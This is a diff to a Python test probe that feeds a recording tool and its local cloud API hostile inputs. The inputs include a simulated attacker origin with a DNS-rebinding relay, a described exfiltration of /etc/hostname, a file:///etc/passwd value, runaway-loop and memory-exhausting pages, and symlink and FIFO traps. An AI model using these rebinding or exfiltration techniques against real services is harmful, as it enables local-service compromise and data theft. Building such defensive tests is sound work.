@@ -12,15 +12,32 @@ Usage:
                    table when no FILE is given)
   --only TEXT      only the cases whose name contains TEXT (repeatable)
   --category NAMES comma-separated: options, pages, ready-servers, cloud-api,
-                   killed-recordings, secrets
+                   killed-recordings, secrets, hostile-origin
   --workdir DIR    where pages, servers' files, outputs and recordings go (default: a
                    new temporary directory, kept when a case failed)
   --jobs N         cases run at once, 1 or 2 (default 2)
 
-Categories: options (bad command lines), pages (hostile record pages under `check`),
-ready-servers (hostile --api-base servers), cloud-api (`recordhost cloud` under bad
-requests), killed-recordings (`run` and `cloud` stopped by signals), secrets (the RTM
-token written by the page or echoed by a server, in every form).
+Categories: options (bad command lines, and outputs that cannot be written: a FIFO or a
+symlink for run, a directory, a 300-character name or a full disk for check), pages
+(hostile record pages under `check`: loops that must end by --timeout with the engine,
+memory without end under --page-memory, routes from Workers and iframes), ready-servers
+(hostile --api-base servers), cloud-api (`recordhost cloud` under bad requests, foreign
+Host and Origin headers, bodies that are not JSON, file: pages, tokens from the
+environment or a file), killed-recordings (`run` and `cloud` stopped by signals), secrets
+(the RTM token written by the page or echoed by a server, in every form), hostile-origin
+(the local cloud from a hostile web origin: an attacker's page on http://127.0.0.2, in a
+real headless Chromium, tries to start a file page whose sdkBundle is its own script, with
+every simple request, a preflighted JSON fetch and a DNS-rebound name, and to read the
+answers; its script, if ever run in the cloud's page, beacons back and sends what it can
+read of /etc/hostname and a planted file; then each layer alone: Host, Origin, content
+type, file pages, sdkBundle, file access).
+
+hostile-origin needs Debian's chromium (`apt-get install -y --no-install-recommends
+chromium`); without it the category is reported as not run. Chromium is driven by its
+command line alone (--headless, --host-resolver-rules maps evil.test to a relay on
+127.0.0.3 that serves the attacker's page and passes the rest to the cloud, Host
+unchanged). Clouds are started with the options the probed build knows (--allow-file-pages
+where a case needs file pages).
 
 Each case is bounded by a timeout (doubled, as the memory bounds are, for a binary whose path
 says "asan"). The table (Markdown, on stdout) counts per category:
@@ -32,7 +49,7 @@ an error of more than one line, a report that is not JSON...). Progress goes to 
 every failing case is listed there at the end with a command that reproduces it. Exit
 status: 0 when every case was handled, 1 otherwise, 2 for a bad command line.
 
-Standard library only, plus ffprobe for the recordings.
+Standard library only, plus ffprobe for the recordings and chromium for hostile-origin.
 """
 import argparse
 import base64
@@ -42,6 +59,7 @@ import html
 import json
 import os
 import re
+import resource
 import shlex
 import shutil
 import signal
@@ -62,7 +80,8 @@ REPORT_MAX = 5 << 20
 OUTPUT_MAX = 64 << 20
 RSS_MAX_KIB = 500 * 1024
 
-CATEGORIES = ["options", "pages", "ready-servers", "cloud-api", "killed-recordings", "secrets"]
+CATEGORIES = ["options", "pages", "ready-servers", "cloud-api", "killed-recordings", "secrets",
+              "hostile-origin"]
 
 
 def log(text):
@@ -201,8 +220,9 @@ class Proc:
     """A process of the binary in its own process group (WebKit's helpers join it),
     its output in files, its memory sampled from /proc."""
 
-    def __init__(self, probe, argv, env=None, name="proc"):
+    def __init__(self, probe, argv, env=None, name="proc", preexec=None, tree_max_kib=None):
         self.probe = probe
+        self.tree_max_kib = tree_max_kib
         self.argv = [str(a) if isinstance(a, Path) else a for a in argv]
         self.env_extra = env or {}
         base = probe.tmpname(name)
@@ -216,7 +236,8 @@ class Proc:
                     self.popen = subprocess.Popen(self.argv, stdin=subprocess.DEVNULL,
                                                   stdout=out, stderr=err,
                                                   env=probe.env(self.env_extra),
-                                                  cwd=probe.workdir, start_new_session=True)
+                                                  cwd=probe.workdir, start_new_session=True,
+                                                  preexec_fn=preexec)
                 break
             except OSError as e:
                 if e.errno not in (errno.EACCES, errno.ETXTBSY, errno.ENOENT) \
@@ -246,6 +267,9 @@ class Proc:
             if n % 5 == 0:
                 total = sum(proc_status(p, "VmRSS") for p in group_members(self.pid))
                 self.tree_kib = max(self.tree_kib, total)
+                if self.tree_max_kib and total > self.tree_max_kib and self.over is None:
+                    self.over = f"process tree RSS past {self.tree_max_kib >> 10} MiB: killed"
+                    self.kill_group()
                 for path, what in ((self.out_path, "stdout"), (self.err_path, "stderr")):
                     try:
                         size = path.stat().st_size
@@ -295,11 +319,22 @@ class Proc:
             time.sleep(0.05)
         return None
 
-    def finish(self, timeout=None):
+    def finish(self, timeout=None, linger=None):
+        """Waits @timeout, then kills what is left of the group; with @linger, first
+        gives the helpers that long to follow the process out (run.left: those that
+        did not)."""
         run = Run()
         run.timed_out = False
+        run.left = []
         if timeout is not None and not self.wait(timeout):
             run.timed_out = True
+        if linger is not None and not run.timed_out and not self.alive():
+            deadline = time.monotonic() + linger
+            while True:
+                run.left = [p for p in group_members(self.pid) if p != self.pid]
+                if not run.left or time.monotonic() > deadline:
+                    break
+                time.sleep(0.1)
         self.kill_group()
         self.popen.wait()
         if self.ended_at is None:
@@ -542,19 +577,32 @@ def read_response(sock, head_only=False, deadline=None, limit=8 << 20):
     return resp
 
 
-def build_request(method, path, body=b"", headers=None, length=True, version=b"HTTP/1.1"):
+def build_request(method, path, body=b"", headers=None, length=True, version=b"HTTP/1.1",
+                  json_type=True):
+    """A request to 127.0.0.1 (http_call adds the port to its Host); a body goes as
+    application/json unless @headers give a Content-Type or @json_type is False."""
     def b(x):
         return x if isinstance(x, bytes) else x.encode("utf-8")
     lines = [b(method) + b" " + b(path) + b" " + version, b"Host: 127.0.0.1",
              b"Connection: close"]
     for k, v in (headers or []):
         lines.append(b(k) + b": " + b(v))
+    typed = any(b(k).lower() == b"content-type" for k, _ in (headers or []))
+    if body and json_type and not typed:
+        lines.append(b"Content-Type: application/json")
     if length and body is not None:
         lines.append(b"Content-Length: %d" % len(body))
     return b"\r\n".join(lines) + b"\r\n\r\n" + (body or b"")
 
 
+def with_port(data, port):
+    """@data with its "Host: 127.0.0.1" naming @port, as a browser's or curl's would: the
+    cloud answers only the Host names it listens under."""
+    return data.replace(b"\r\nHost: 127.0.0.1\r\n", b"\r\nHost: 127.0.0.1:%d\r\n" % port, 1)
+
+
 def http_call(port, data, timeout=10, head_only=False):
+    data = with_port(data, port)
     start = time.monotonic()
     try:
         sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
@@ -586,13 +634,14 @@ def api(port, method, path, body=None, headers=None, timeout=10):
 class RawServer:
     """Answers each connection with @behave(conn, server, request_bytes)."""
 
-    def __init__(self, behave, read_request=True):
+    def __init__(self, behave, read_request=True, host="127.0.0.1", port=0):
         self.behave = behave
         self.read_request = read_request
+        self.host = host
         self.stop = threading.Event()
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        self.sock.bind(("127.0.0.1", 0))
+        self.sock.bind((host, port))
         self.sock.listen(128)
         self.sock.settimeout(0.2)
         self.port = self.sock.getsockname()[1]
@@ -604,7 +653,7 @@ class RawServer:
 
     @property
     def url(self):
-        return f"http://127.0.0.1:{self.port}"
+        return f"http://{self.host}:{self.port}"
 
     def _serve(self):
         while not self.stop.is_set():
@@ -667,6 +716,96 @@ def sleep_until_stopped(server, seconds):
     server.stop.wait(seconds)
 
 
+def parse_request(request):
+    """(method, target, headers with lower-case names, body) of a raw request."""
+    head, _, body = request.partition(b"\r\n\r\n")
+    lines = head.split(b"\r\n")
+    parts = lines[0].split(b" ")
+    method = parts[0].decode("latin-1")
+    target = parts[1].decode("latin-1") if len(parts) > 1 else ""
+    headers = {}
+    for line in lines[1:]:
+        if b":" in line:
+            k, v = line.split(b":", 1)
+            headers[k.strip().lower().decode("latin-1")] = v.strip().decode("latin-1")
+    return method, target, headers, body
+
+
+class Site:
+    """A web site on a loopback address of its own (another origin than the cloud's):
+    files at fixed paths, every request kept, 204 to any other path, or, given
+    @forward, any other request relayed to that port of 127.0.0.1 as it came (its Host
+    included), as a DNS name rebound to the cloud would have it."""
+
+    def __init__(self, host="127.0.0.2", port=0, forward=None):
+        self.files = {}
+        self.hits = []
+        self.forward = forward
+        self.lock = threading.Lock()
+        self.server = RawServer(self._behave, host=host, port=port)
+        self.port = self.server.port
+        self.url = self.server.url
+
+    def add(self, path, body, ctype="text/html; charset=utf-8"):
+        self.files[path] = (ctype, body.encode() if isinstance(body, str) else body)
+
+    def _behave(self, conn, server, request):
+        method, target, headers, body = parse_request(request)
+        path = target.split("?", 1)[0]
+        with self.lock:
+            self.hits.append((method, target, headers, body))
+        if path in self.files and method == "GET":
+            ctype, data = self.files[path]
+            answer(conn, 200, data, ctype=ctype)
+        elif self.forward:
+            self._relay(conn, request)
+        else:
+            answer(conn, 204, b"", ctype="text/plain", reason=b"No Content")
+
+    def _relay(self, conn, request):
+        head, sep, body = request.partition(b"\r\n\r\n")
+        head = re.sub(rb"(?im)^connection:[^\r\n]*\r\n", b"", head + b"\r\n")
+        try:
+            upstream = socket.create_connection(("127.0.0.1", self.forward), timeout=15)
+        except OSError:
+            answer(conn, 502, b"", ctype="text/plain", reason=b"Bad Gateway")
+            return
+        try:
+            upstream.sendall(head + b"Connection: close" + sep + body)
+            while True:
+                chunk = upstream.recv(65536)
+                if not chunk:
+                    break
+                conn.sendall(chunk)
+        except OSError:
+            pass
+        finally:
+            upstream.close()
+
+    def hits_to(self, prefix):
+        with self.lock:
+            return [h for h in self.hits if h[1].startswith(prefix)]
+
+    def holding(self, secret):
+        """Requests whose target or body hold @secret (also percent-encoded)."""
+        with self.lock:
+            hits = list(self.hits)
+        return [h for h in hits if secret in urllib.parse.unquote_plus(h[1])
+                or secret.encode() in h[3]]
+
+    def reports(self):
+        out = []
+        for method, target, headers, body in self.hits_to("/report"):
+            try:
+                out.append(json.loads(body.decode("utf-8")))
+            except (UnicodeDecodeError, ValueError):
+                pass
+        return out
+
+    def close(self):
+        self.server.close()
+
+
 # ---------------------------------------------------------------------------------------
 # The probe
 
@@ -704,6 +843,9 @@ class Probe:
         self.lock = threading.Lock()
         self.procs = []
         self.rebuilt = False
+        self.cloud_help = None
+        self.site = None
+        self.not_run = {}
         self.quote = Quoter(self.workdir)
         self.page = ROOT / "page" / "record_page.html"
         self.script = Path(__file__).resolve()
@@ -740,8 +882,21 @@ class Probe:
             env[k] = v
         return env
 
-    def proc(self, argv, env=None, name="proc"):
-        return Proc(self, [self.binary] + list(argv), env=env, name=name)
+    def proc(self, argv, env=None, name="proc", **kwargs):
+        return Proc(self, [self.binary] + list(argv), env=env, name=name, **kwargs)
+
+    def cloud_knows(self, option):
+        """Whether `cloud --help` names --@option: the probe starts clouds with the
+        options of the build it probes, and judges the cases that need one anyway."""
+        with self.lock:
+            if self.cloud_help is None:
+                try:
+                    self.cloud_help = subprocess.run(
+                        [self.binary, "cloud", "--help"], capture_output=True, timeout=20,
+                        env=self.env()).stdout.decode("utf-8", "replace")
+                except (OSError, subprocess.TimeoutExpired):
+                    self.cloud_help = ""
+            return f"--{option}" in self.cloud_help
 
     def run(self, argv, timeout, env=None, name="run"):
         return self.proc(argv, env=env, name=name).finish(timeout * self.scale)
@@ -806,7 +961,8 @@ STRING_BAD = {
                  "file:///etc/passwd", "data:,x", "//host/path", "http://exa mple.com/",
                  "http://\x1b[2J/", b"http://\xff/"],
     "route": ["", "foo", "=http://x", "h=", "h=ftp://x", "h=notaurl", "h=http://x/?q=1",
-              "h=http://", "h=http://[::1", b"h=http://\xff/"],
+              "h=http://", "h=http://[::1", b"h=http://\xff/", "h=http://user:pw@127.0.0.1:9",
+              "h=http://user@127.0.0.1:9"],
     "param": ["", "noequals", "=v", "==", "appId=x", "roomUuid=x", "roomType=1", "userUuid=u",
               "roleType=1", "pretest=true", "rtmToken=t", "language=zz", "region=cn"],
     "app-id": [""],
@@ -920,11 +1076,15 @@ def option_cases(probe):
                           else f"--{option}={value}"], f"--{option}={show(value)}")
     for option, value in (("listen", "999.1.1.1:0"), ("listen", "host name:80"),
                           ("listen", "192.0.2.1:0"), ("data-dir", "/proc/x"),
-                          ("data-dir", "/dev/null"), ("data-dir", "/proc/version/x")):
+                          ("data-dir", "/dev/null"), ("data-dir", "/proc/version/x"),
+                          ("token-file", "/nonexistent/token"), ("token-file", work)):
         add("cloud", [f"--{option}={value}"], f"--{option}={show(value)}", (1, 2))
     for extra in (["x"], ["--bogus"], ["--listen"], ["--data-dir"], ["--require-token"],
-                  ["--max-rooms"]):
+                  ["--max-rooms"], ["--token-file"], ["--allowed-host"]):
         add("cloud", extra, " ".join(extra))
+    # Beyond loopback, a cloud without a token would let the network start pages.
+    for listen in ("0.0.0.0:0", "[::]:0"):
+        add("cloud", [f"--listen={listen}"], f"--listen={listen} without a token")
     for argv in ([], ["bogus"], ["--bogus"], [""], ["CHECK"], [b"\xff"], ["\x1b[2J"]):
         add("", argv, " ".join(show(a) for a in argv) or "no command")
 
@@ -933,6 +1093,8 @@ def option_cases(probe):
         name = f"options/{cmd or 'recordhost'} {shown}"
         cases.append(Case("options", name, make_option_case(probe, cmd, argv, allowed, name),
                           quick=i % 4 == 0))
+    cases += output_cases(probe, base)
+    cases += cloud_start_cases(probe)
     soft_options = ["app-id", "room-uuid", "user-uuid", "language", "user-agent", "rtm-token",
                     "param", "env RECORDHOST_RTM_TOKEN"]
     n = 0
@@ -955,6 +1117,135 @@ def option_cases(probe):
             cases.append(Case("options", name, make_soft_case(probe, argv, env, name),
                               quick=n % 6 == 0, slow=True))
             n += 1
+    return cases
+
+
+def output_cases(probe, base):
+    """Outputs that cannot be written as asked: a FIFO or a symlink given to run (refused
+    before anything is written, not followed), a directory, a name too long or a full disk
+    given to check (exit 1, one line naming the file)."""
+    cases = []
+
+    def fresh():
+        where = Path(probe.tmpname("outputs") + ".dir")
+        where.mkdir()
+        return where
+
+    def fifo(where, name):
+        os.mkfifo(where / name)
+        return where / name, lambda o: None if (where / name).is_fifo() else o.problem(
+            f"{name} is no longer a FIFO")
+
+    def dangling(where, name):
+        os.symlink(where / ("target-" + name), where / name)
+        return where / name, lambda o: o.problem(f"the symlink was followed: {name} "
+                                                 f"created") if (where / ("target-" + name)) \
+            .exists() else None
+
+    def to_file(where, name):
+        (where / ("target-" + name)).write_text("keep")
+        os.symlink(where / ("target-" + name), where / name)
+        return where / name, lambda o: o.problem(f"the symlink was followed: its target "
+                                                 f"changed") if (where / ("target-" + name)) \
+            .read_bytes() != b"keep" else None
+
+    def directory(where, name):
+        (where / name).mkdir()
+        return where / name, lambda o: None
+
+    def long_name(where, name):
+        return where / (name[0] * 300 + "." + name.split(".")[-1]), lambda o: None
+
+    def plain(where, name):
+        return where / name, lambda o: None
+
+    def snapshot_link(where, name):
+        (where / "target").mkdir()
+        os.symlink(where / "target", where / name)
+        return where / name, lambda o: o.problem("snapshots written through the symlink") \
+            if any((where / "target").iterdir()) else None
+
+    def small_disk():
+        # A full disk as a write sees it: EFBIG past 2 MiB, no signal. WebKit's shared
+        # memory needs about that much for a 480x480 view.
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (2 << 20, 2 << 20))
+
+    # About 4 MB of HAR: 600 requests with long URLs, refused at once.
+    big_har = probe.write_page("big-har", "<!DOCTYPE html>\n<script>\nvar pad = 'x'.repeat "
+                               "(10000);\nfor (var i = 0; i < 600; i++)\n  fetch ("
+                               "'http://127.0.0.1:9/' + i + '?q=' + pad).catch (function () "
+                               "{});\n</script>\n<script>" + READY_JS + "\nrhReady ();"
+                               "</script>\n")
+    full_disk = [str(big_har), "--app-id=a", "--room-uuid=r", "--room-type=4", "--timeout=10",
+                 "-q", "--paint-grace-ms=0", "--width=480", "--height=480"]
+
+    rows = [("run", "record", "x.mp4", fifo, {2}, None, "a FIFO"),
+            ("run", "state-log", "events.log", fifo, {2}, None, "a FIFO"),
+            ("run", "record", "x.mp4", dangling, {2}, None, "a symlink to nothing"),
+            ("run", "record", "x.mp4", to_file, {2}, None, "a symlink to a file"),
+            ("run", "state-log", "events.log", dangling, {2}, None, "a symlink to nothing"),
+            ("run", "state-log", "events.log", to_file, {2}, None, "a symlink to a file"),
+            ("check", "har", "x.har", directory, {1}, None, "a directory"),
+            ("check", "junit", "x.xml", directory, {1}, None, "a directory"),
+            ("check", "har", "h.har", long_name, {1}, None, "a 300-character name"),
+            ("check", "junit", "j.xml", long_name, {1}, None, "a 300-character name"),
+            ("check", "har", "x.har", plain, {1}, small_disk, "on a full disk"),
+            ("check", "snapshots", "shots", snapshot_link, {1, 2}, None,
+             "a symlink to a directory")]
+    for cmd, option, file, make, allowed, preexec, label in rows:
+        name = f"options/{cmd} --{option}={label}"
+
+        def case(cmd=cmd, option=option, file=file, make=make, allowed=allowed,
+                 preexec=preexec, name=name):
+            o = Outcome("options", name)
+            path, after = make(fresh(), file)
+            argv = [cmd] + with_option(full_disk if preexec else base[cmd], option, str(path))
+            bound = 20
+            run = probe.proc(argv, name="outputs", preexec=preexec).finish(bound * probe.scale)
+            o.repro = probe.command(run) + ("   # under ulimit -f 2048, SIGXFSZ ignored"
+                                            if preexec else "")
+            rc = judge(o, run, bound=bound)
+            expect_status(o, rc, allowed)
+            if rc in allowed:
+                expect_one_line(o, run, f"recordhost {cmd}:")
+                line = stderr_before_report(run).decode("utf-8", "replace")
+                if option != "snapshots" and path.name[:40] not in line:
+                    o.problem(f"the error does not name {path.name[:40]!r}: {line[:160]!r}")
+            after(o)
+            return [o]
+        cases.append(Case("options", name, case, quick=True, slow=True))
+    return cases
+
+
+def cloud_start_cases(probe):
+    """Clouds that must start: beyond loopback with a token or with --insecure-no-token."""
+    cases = []
+    token_file = probe.workdir / "start-token"
+    for argv, env, label in (
+            (["--listen=0.0.0.0:0", "--insecure-no-token"], None, "--insecure-no-token"),
+            (["--listen=0.0.0.0:0", "--require-token=probe-start-token"], None,
+             "--require-token"),
+            (["--listen=0.0.0.0:0"], {"RECORDHOST_CLOUD_TOKEN": "probe-start-token"},
+             "RECORDHOST_CLOUD_TOKEN"),
+            (["--listen=0.0.0.0:0", f"--token-file={token_file}"], None, "--token-file")):
+        name = f"options/cloud --listen=0.0.0.0:0 with {label}: starts"
+
+        def case(argv=argv, env=env, name=name):
+            o = Outcome("options", name)
+            token_file.write_text("probe-start-token\n")
+            data_dir = Path(probe.tmpname("cloud-start") + ".data")
+            full = ["cloud", f"--data-dir={data_dir}"] + argv
+            proc = probe.proc(full, env=env, name="cloud-start")
+            url = proc.first_line(20 * probe.scale)
+            run = proc.finish(0)
+            o.repro = probe.command(run)
+            if not url:
+                judge(o, run)
+                o.problem("did not start: " + stderr_before_report(run).decode(
+                    "utf-8", "replace").strip()[:200])
+            return [o]
+        cases.append(Case("options", name, case, quick=True))
     return cases
 
 
@@ -1210,11 +1501,24 @@ def page_list():
         "pagehide": "window.addEventListener ('pagehide', function () { for (;;) {} }); "
                     "setTimeout (function () { location.reload (); }, 50);",
     }
+    # A page in a loop ends the check by its --timeout (1 s to spare), engine included.
     for name, js in loops.items():
-        add(f"loop-{name}", js, ready=False, quick=name == "sync")
-    add("loop-worker", "new Worker (URL.createObjectURL (new Blob (['for (;;) {}'])));")
+        add(f"loop-{name}", js, ready=False, quick=name == "sync", bounded=True)
+    add("loop-worker", "new Worker (URL.createObjectURL (new Blob (['for (;;) {}'])));",
+        bounded=True)
     for t in (1, 3, 10):
-        add(f"loop-sync-timeout-{t}", "while (true) {}", ready=False, timeout=t, quick=t == 1)
+        add(f"loop-sync-timeout-{t}", "while (true) {}", ready=False, timeout=t, quick=t == 1,
+            bounded=True)
+    # --page-memory bounds a page that allocates without end: the check fails.
+    for where, js in (("page", "const keep = []; setInterval (function () { for (let i = 0; "
+                               "i < 4; i++) keep.push (new Float64Array (1 << 19).fill (i)); "
+                               "}, 50);"),
+                      ("worker", "new Worker (URL.createObjectURL (new Blob (['const keep = "
+                                 "[]; setInterval (function () { for (let i = 0; i < 4; i++) "
+                                 "keep.push (new Float64Array (1 << 19).fill (i)); }, 50);'])));"
+                       )):
+        add(f"memory-without-end-in-{where}", js, ready=False, timeout=20, quick=True,
+            page_memory=256)
 
     redirects = {
         "reload": "location.reload ();",
@@ -1377,22 +1681,86 @@ def page_cases(probe):
         path = probe.write_page(name, text)
         cases.append(Case("pages", f"pages/{name}",
                           make_page_case(probe, path, f"pages/{name}",
-                                         options.get("timeout", 5), options.get("quiet", True)),
+                                         options.get("timeout", 5), options.get("quiet", True),
+                                         options),
                           quick=quick, slow=True))
+    cases.append(Case("pages", ROUTED_NAME, routed_case(probe), quick=True, slow=True))
     return cases
 
 
-def make_page_case(probe, path, name, timeout, quiet):
+ROUTED_NAME = "pages/routed requests from a Worker and an iframe"
+
+
+def routed_case(probe):
+    """--route applies to every context of the page: a Worker's and an iframe's requests
+    reach the route's target and are in the report's requests."""
+    def case():
+        o = Outcome("pages", ROUTED_NAME)
+        server = RawServer(lambda conn, server, req: answer(
+            conn, 200, b"ok", ctype="text/plain", extra=b"Access-Control-Allow-Origin: *\r\n"))
+        try:
+            direct = f"http://127.0.0.1:{server.port}"
+            probe.write_page("routed-frame", "<!DOCTYPE html>\n<script>fetch ("
+                             "'http://routed.test/iframe-ping');</script>\n")
+            worker = ("fetch ('http://routed.test/worker-ping'); fetch ('" + direct
+                      + "/worker-control');")
+            path = probe.write_page("routed", (
+                "<!DOCTYPE html>\n<body><iframe src=\"routed-frame.html\"></iframe>\n<script>"
+                + READY_JS + "\nnew Worker (URL.createObjectURL (new Blob ([" + js_string(worker)
+                + "])));\nsetTimeout (rhReady, 2000);\n</script></body>\n"))
+            argv = ["check", path, "--app-id=a", "--room-uuid=r", "--room-type=4", "--json",
+                    "--timeout=10", "--paint-grace-ms=0", "-q",
+                    f"--route=routed.test={direct}"]
+            run = probe.run(argv, 35, name="routed")
+        finally:
+            server.close()
+        o.repro = probe.command(run) + "   # with a server on the route's port"
+        rc = judge(o, run, bound=35)
+        expect_status(o, rc, {0, 1})
+        seen = b"\n".join(server.requests)
+        report = parse_report(o, run) if rc is not None else None
+        listed = " ".join(strings_of(report.get("requests", []), [])) if report else ""
+        if b"/worker-control" not in seen:
+            o.problem("the Worker's request to 127.0.0.1 itself (not routed) never arrived "
+                      "either: the Worker's requests fail altogether")
+        for what in ("worker-ping", "iframe-ping"):
+            if f"/{what}".encode() not in seen:
+                o.problem(f"the {what.split('-')[0]}'s request to the routed host did not "
+                          f"reach the route's target")
+            if report is not None and what not in listed:
+                o.problem(f"the {what.split('-')[0]}'s request is not in the report's requests")
+        return [o]
+    return case
+
+
+def make_page_case(probe, path, name, timeout, quiet, options=None):
+    options = options or {}
+
     def case():
         o = Outcome("pages", name)
         argv = ["check", path, "--app-id=a", "--room-uuid=r", "--room-type=4", "--json",
                 f"--timeout={timeout}", "--paint-grace-ms=0"] + (["-q"] if quiet else [])
+        memory = options.get("page_memory")
+        if memory:
+            argv.append(f"--page-memory={memory}")
         bound = timeout + 25
-        run = probe.run(argv, bound, name="page")
+        # A bound that does not hold must not take the machine with it.
+        proc = probe.proc(argv, name="page", tree_max_kib=(3 << 20) if memory else None)
+        run = proc.finish(bound * probe.scale, linger=1.0 if options.get("bounded") else None)
         o.repro = probe.command(run)
         rc = judge(o, run, bound=bound)
-        expect_status(o, rc, {0, 1})
-        if rc is not None or (o.leaks and not o.crash):
+        expect_status(o, rc, {1} if memory else {0, 1})
+        if memory and run.tree_kib > (memory + 400) * 1024 * probe.scale:
+            o.problem(f"process tree RSS {run.tree_kib >> 10} MiB with --page-memory={memory} "
+                      f"(bound {memory} + 400 MiB)")
+        if options.get("bounded"):
+            if not run.timed_out and run.elapsed > timeout + 1 * probe.scale:
+                o.problem(f"ended {run.elapsed:.1f} s after start: more than --timeout {timeout} "
+                          f"s + 1 s")
+            if run.left:
+                o.problem(f"{len(run.left)} engine process(es) still alive 1 s after the "
+                          f"check ended")
+        if (rc is not None and rc != 2) or (o.leaks and not o.crash):
             report = parse_report(o, run)
             if report is not None:
                 if report.get("verdict") not in ("pass", "fail"):
@@ -1413,7 +1781,8 @@ def make_page_case(probe, path, name, timeout, quiet):
             lines = [x for x in stderr_before_report(run).split(b"\n")
                      if x.decode("utf-8", "replace") not in STDERR_NOISE]
             check_printable(o, b"\n".join(lines), "stderr")
-        o.notes.append(f"{run.elapsed:.1f} s, peak RSS {run.hwm_kib // 1024} MiB")
+        o.notes.append(f"{run.elapsed:.1f} s, peak RSS {run.hwm_kib // 1024} MiB, tree "
+                       f"{run.tree_kib // 1024} MiB")
         return [o]
     return case
 
@@ -1627,10 +1996,13 @@ INTERNALS = ["sqlite", "cloud store", "cloud.sqlite3", "/work/", ".c:", "gerror"
 class CloudFixture:
     """One `recordhost cloud` shared by the cases of an instance, started on first use."""
 
-    def __init__(self, probe, label, token=None):
+    def __init__(self, probe, label, token=None, extra=(), env=None, file_pages=False):
         self.probe = probe
         self.label = label
         self.token = token
+        self.extra = list(extra)
+        self.env = env
+        self.file_pages = file_pages
         self.lock = threading.Lock()
         self.proc = None
         self.port = None
@@ -1643,10 +2015,8 @@ class CloudFixture:
         with self.lock:
             if self.proc is None and self.error is None:
                 self.data_dir.mkdir(parents=True, exist_ok=True)
-                argv = ["cloud", "--listen=127.0.0.1:0", f"--data-dir={self.data_dir}"]
-                if self.token:
-                    argv.append(f"--require-token={self.token}")
-                self.proc = self.probe.proc(argv, name=f"cloud-{self.label}")
+                argv = self.argv()
+                self.proc = self.probe.proc(argv, env=self.env, name=f"cloud-{self.label}")
                 url = self.proc.first_line(30 * self.probe.scale)
                 if not url or ":" not in url:
                     self.error = "the cloud did not start: " + \
@@ -1660,13 +2030,31 @@ class CloudFixture:
             self.counter += 1
             return f"probe-{self.counter}"
 
+    def argv(self):
+        argv = ["cloud", "--listen=127.0.0.1:0", f"--data-dir={self.data_dir}"]
+        if self.token and not self.extra and not self.env:
+            argv.append(f"--require-token={self.token}")
+        if self.file_pages and self.probe.cloud_knows("allow-file-pages"):
+            argv.append("--allow-file-pages")
+        return argv + self.extra
+
     def headers(self):
         return [("x-agora-token", self.token)] if self.token else []
 
     def argv_hint(self):
-        token = f" --require-token {self.probe.quote(self.token)}" if self.token else ""
-        return (f"{self.probe.quote(str(self.probe.binary))} cloud --listen 127.0.0.1:0 "
-                f"--data-dir {self.probe.quote(str(self.data_dir))}{token}")
+        return self.probe.command(self.argv(), self.env)
+
+    def stop_rooms(self, paths):
+        for path in paths:
+            api(self.port, "PUT", path + "/records/states/0", b"", self.headers())
+
+    def records(self, path):
+        """The room's recordings, asked as the operator would (None: no such room)."""
+        resp = api(self.port, "GET", path + "/records", None, self.headers())
+        try:
+            return json.loads(resp.body)["data"]["list"] if resp.status == 200 else None
+        except (ValueError, KeyError, TypeError):
+            return None
 
 
 def check_alive(o, fx):
@@ -1777,7 +2165,8 @@ METHODS = ["DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "
 def api_specs(probe):
     """(name, fn(fx, o)) for the API cases."""
     specs = []
-    page_url = probe.page.as_uri()
+    # An http page: a file: page would be refused for being one, not for the field tried.
+    page_url = attacker_site(probe).url + "/harmless.html"
 
     def add(name, fn):
         specs.append((name, fn))
@@ -1900,20 +2289,20 @@ def api_specs(probe):
         # A request too big to read may be cut off without an answer.
         add(f"request with {label}",
             lambda fx, o, head=head, label=label: raw(
-                fx, o, b"POST " + room_path(fx).encode() + b" HTTP/1.1\r\nHost: x\r\n"
+                fx, o, b"POST " + room_path(fx).encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                 + tok(fx) + head + b"Connection: close\r\n\r\n{}",
                 allow_no_answer=label in ("100 KB header", "10000 headers")))
     lines = {
-        "HTTP/9.9": b"GET /edu/apps/a/v2/rooms/r/records HTTP/9.9\r\nHost: x\r\n",
+        "HTTP/9.9": b"GET /edu/apps/a/v2/rooms/r/records HTTP/9.9\r\nHost: 127.0.0.1\r\n",
         "HTTP/1.1 without Host": b"GET /edu/apps/a/v2/rooms/r/records HTTP/1.1\r\n",
         "HTTP/0.9": b"GET /edu/apps/a/v2/rooms/r/records\r\n",
         "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n",
         "empty request line": b"\r\n",
         "garbage": bytes(range(256)) * 4 + b"\r\n",
         "TLS hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500,
-        "space in path": b"GET /edu/apps/a/v2/rooms/a b/records HTTP/1.1\r\nHost: x\r\n",
-        "tab in path": b"GET /edu/apps/a/v2/rooms/a\tb/records HTTP/1.1\r\nHost: x\r\n",
-        "lowercase version": b"GET /edu/apps/a/v2/rooms/r/records http/1.1\r\nHost: x\r\n",
+        "space in path": b"GET /edu/apps/a/v2/rooms/a b/records HTTP/1.1\r\nHost: 127.0.0.1\r\n",
+        "tab in path": b"GET /edu/apps/a/v2/rooms/a\tb/records HTTP/1.1\r\nHost: 127.0.0.1\r\n",
+        "lowercase version": b"GET /edu/apps/a/v2/rooms/r/records http/1.1\r\nHost: 127.0.0.1\r\n",
     }
     for label, line in lines.items():
         add(f"request line {label}",
@@ -1961,7 +2350,8 @@ def big_body_specs(probe):
     def head(fx, extra):
         token = b"".join(b"%s: %s\r\n" % (k.encode(), v.encode()) for k, v in fx.headers())
         return (b"POST /edu/apps/a/v2/rooms/big-" + fx.room().encode() + b" HTTP/1.1\r\n"
-                b"Host: x\r\n" + token + extra + b"\r\n")
+                b"Host: 127.0.0.1:%d\r\nContent-Type: application/json\r\n" % fx.port
+                + token + extra + b"\r\n")
 
     chunk = b"[" * (1 << 20)
     specs.append(("Content-Length 10 GB, no body sent", lambda fx, o: refuse_unread(
@@ -2027,7 +2417,8 @@ def crowd_specs(probe):
             try:
                 s = socket.create_connection(("127.0.0.1", fx.port), timeout=5)
                 if trickle:
-                    s.sendall(b"GET /edu/apps/a/v2/rooms/slow/records HTTP/1.1\r\nHost: x\r\n")
